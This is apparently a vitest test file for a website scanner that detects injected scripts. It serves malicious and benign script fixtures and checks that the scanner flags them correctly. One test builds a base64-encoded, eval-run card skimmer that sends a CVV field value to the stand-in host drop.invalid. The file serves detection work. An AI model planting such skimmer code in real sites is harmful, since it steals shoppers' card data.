import { describe, expect, it } from 'vitest';
import { benignScripts } from '../checks/script/benign-scripts.ts';
import { maliciousScripts } from '../checks/script/malicious-scripts.ts';
import { scanSite, siteServer } from '../helpers/site-server.ts';

const page = (script: string): string =>
  `<!doctype html><html><body><script>${script}</script></body></html>`;
const index = (paths: readonly string[]): string =>
  paths.map((path) => `<a href="${path}">${path}</a>`).join(' ');

describe('a scan of a site with injected scripts', () => {
  it('finds them, inline and external, and leaves honest ones alone', async () => {
    const pages: Record<string, string> = { '/': '' };
    const urls: string[] = [];
    const add = (path: string, html: string): void => {
      pages[path] = html;
      urls.push(path);
    };
    maliciousScripts.forEach(({ text }, number) => {
      if (number % 2 === 0 && !text.includes('</')) {
        add(`/bad${String.fromCharCode(97 + (number % 26))}${number > 25 ? 'x' : ''}`, page(text));
      } else {
        pages[`/js/m${number}.js`] = text;
        add(
          `/evil${String.fromCharCode(97 + (number % 26))}${number > 25 ? 'x' : ''}`,
          `<script src="/js/m${number}.js"></script>`,
        );
      }
    });
    benignScripts.forEach(({ text }, number) => {
      add(`/good${String.fromCharCode(97 + (number % 26))}${number > 25 ? 'x' : ''}`, page(text));
    });
    pages['/'] = index(urls);
    const server = await siteServer(pages);
    const { report } = await scanSite(server.url);

    const flagged = new Set(
      report.findings
        .filter(({ kind, severity }) => kind === 'script' && severity !== 'info' && severity !== 'low')
        .flatMap(({ occurrences }) => occurrences.map(({ path }) => new URL(path).pathname)),
    );
    const bad = Object.keys(pages).filter((path) => path.startsWith('/bad') || path.startsWith('/js/m'));
    expect(bad.filter((path) => !flagged.has(path))).toEqual([]);
    expect([...flagged].filter((path) => path.startsWith('/good'))).toEqual([]);
    expect(report.coverage.complete).toBe(true);
    expect(
      server.requests.every(
        (path) => Object.hasOwn(pages, path) || /robots|sitemap|favicon|^\/[mw]\.|codec/.test(path),
      ),
    ).toBe(true);
  });

  it('tells the host, the decoded text and the place', async () => {
    const code = `new Image().src='https://drop.invalid/p?'+document.querySelector('#cvv').value`;
    const server = await siteServer({
      '/': `<html></html><script>eval(atob('${Buffer.from(code).toString('base64')}'))</script>`,
    });
    const { code: exit, report } = await scanSite(server.url);
    expect(report.findings).toEqual([
      expect.objectContaining({
        kind: 'script',
        rule: 'script-skimmer',
        severity: 'critical',
        evidence: expect.stringMatching(
          /to drop\.invalid by image; the host drop\.invalid stands in the script in encoded form only.*runs text by eval: new Image.*behind the end of the document/,
        ),
        occurrences: [
          expect.objectContaining({ url: `${server.url}/`, scriptHash: expect.stringMatching(/^sha256-/) }),
        ],
      }),
    ]);
    expect([exit, report.coverage]).toEqual([1, expect.objectContaining({ complete: true })]);
  });
});
